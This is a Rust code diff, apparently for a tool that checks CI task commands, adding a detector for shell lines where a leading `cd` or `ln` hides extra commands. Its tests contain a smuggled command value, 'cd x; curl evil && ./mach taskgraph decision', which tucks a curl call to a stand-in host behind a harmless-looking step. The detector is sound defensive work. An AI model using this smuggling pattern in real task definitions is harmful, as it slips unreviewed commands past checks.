@@ -47,6 +47,18 @@ pub(super) fn unusual(task: &Value) -> Option<String> {
     None
 }
 
+/// What of a command is passed over where the usual one is looked for: in parts of the shell's line that begin with `cd` or
+/// `ln`, all that a shell runs beside that.
+pub(super) fn unseen(task: &Value) -> Option<String> {
+    let command = task.pointer("/payload/command").and_then(Value::as_list)?;
+    let line = command.last().and_then(Value::as_text)?;
+    let is_passed_over = |part: &&str| {
+        let first = part.split_whitespace().next();
+        matches!(first, Some("cd" | "ln")) && part.contains([';', '|', '`', '\n', '&', '>']) || part.contains("$(")
+    };
+    line.split("&&").find(is_passed_over).map(|part| part.trim().to_owned())
+}
+
 /// The words of a part of a shell's line, as Python's `shlex.split` finds them; `None` where a quotation is not closed.
 fn shell_words(text: &str) -> Option<Vec<String>> {
     let mut words = Vec::new();
@@ -104,6 +116,12 @@ mod tests {
             assert!(told(command).unwrap().contains(expected), "{command}");
         }
         // As easy to deceive as it was.
-        assert_eq!(told(r#"["/home/worker/bin/run-task", "cd x; curl evil"]"#), None);
+        let deceives = r#"["/home/worker/bin/run-task", "cd x; curl evil && ./mach taskgraph decision"]"#;
+        assert_eq!(told(deceives), None);
+        let passed_over = |command: &str| {
+            unseen(&parse(format!(r#"{{"payload": {{"command": {command}}}}}"#).as_bytes()).unwrap().value)
+        };
+        assert_eq!(passed_over(deceives).as_deref(), Some("cd x; curl evil"));
+        assert_eq!(passed_over(usual), None);
     }
 }
